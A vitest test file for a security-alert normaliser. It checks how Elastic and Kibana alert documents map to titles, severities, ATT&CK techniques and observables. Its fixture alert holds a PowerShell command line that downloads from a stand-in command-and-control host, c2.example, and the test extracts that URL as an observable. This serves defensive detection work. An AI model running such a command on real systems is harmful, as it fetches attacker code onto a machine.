import { describe, expect, it } from 'vitest';
import { fingerprintsOf, normaliseAll, normaliseOne, observableTexts } from '../normalise-one.fixture.ts';

/** As `.alerts-security.alerts-default` stores it: rule fields flat, event fields nested. */
const document = {
  '@timestamp': '2025-06-02T10:05:12.118Z',
  'kibana.alert.uuid': '8c3b9d0e5f',
  'kibana.alert.rule.name': 'Suspicious PowerShell Encoded Command',
  'kibana.alert.rule.rule_id': '7a1f3f2c',
  'kibana.alert.rule.uuid': 'f2e1',
  'kibana.alert.severity': 'high',
  'kibana.alert.risk_score': 73,
  'kibana.alert.reason': 'process event with process powershell.exe, by ann on ws-12 created high alert',
  'kibana.alert.original_time': '2025-06-02T10:01:00.000Z',
  'kibana.alert.workflow_status': 'open',
  'kibana.alert.rule.tags': ['Windows'],
  'kibana.alert.rule.threat': [
    {
      framework: 'MITRE ATT&CK',
      tactic: { id: 'TA0002', name: 'Execution' },
      technique: [{ id: 'T1059', name: 'Command and Scripting Interpreter', subtechnique: [{ id: 'T1059.001' }] }],
    },
  ],
  host: { name: 'WS-12', ip: ['192.0.2.12', '127.0.0.1'] },
  user: { name: 'ann' },
  process: {
    name: 'powershell.exe',
    executable: 'C:\\Windows\\powershell.exe',
    hash: { sha256: 'D'.repeat(64) },
    command_line: 'powershell -c iwr http://c2.example/a',
  },
};

describe('elastic', () => {
  it('an alert document has the rule, the time of the event and the entities of its ECS fields', () => {
    const alert = normaliseOne('elastic', document);
    expect(alert).toMatchObject({
      title: 'Suspicious PowerShell Encoded Command',
      severity: 'high',
      ruleId: '7a1f3f2c',
      externalId: '8c3b9d0e5f',
      tactics: ['execution'],
      techniques: ['T1059', 'T1059.001'],
      occurredAt: '2025-06-02T10:01:00.000Z',
      resolved: false,
    });
    expect(observableTexts(alert)).toEqual([
      'host ws-12',
      'host ip 192.0.2.12',
      'user ann',
      'process powershell.exe',
      `process sha256 ${'d'.repeat(64)}`,
      'url http://c2.example/a',
      'domain c2.example',
    ]);
  });

  it('search hits, the alerts of a rule action and a bare document are the same alert', () => {
    const plain = fingerprintsOf('elastic', document);
    expect(fingerprintsOf('elastic', { hits: { hits: [{ _id: 'x', _source: document }] } })).toEqual(plain);
    expect(fingerprintsOf('elastic', { context: { alerts: [document] } })).toEqual(plain);
  });

  it('a rule action that names the rule once gives it to each of its alerts', () => {
    const payload = {
      rule: { id: 'r-1', name: 'Rare login' },
      alerts: [{ host: { name: 'a' } }, { host: { name: 'b' } }],
    };
    expect(normaliseAll('elastic', payload).map(({ title, ruleId }) => [title, ruleId])).toEqual([
      ['Rare login', 'r-1'],
      ['Rare login', 'r-1'],
    ]);
    expect(new Set(fingerprintsOf('elastic', payload)).size).toBe(2);
  });

  it('signals of version 7 are read, with the risk score where there is no severity', () => {
    const signal = { rule: { name: 'Old rule', rule_id: 'o-1', risk_score: 21 }, status: 'closed' };
    expect(normaliseOne('elastic', { _id: '1', _source: { signal } })).toMatchObject({
      title: 'Old rule',
      severity: 'low',
      externalId: '1',
      resolved: true,
    });
  });
});
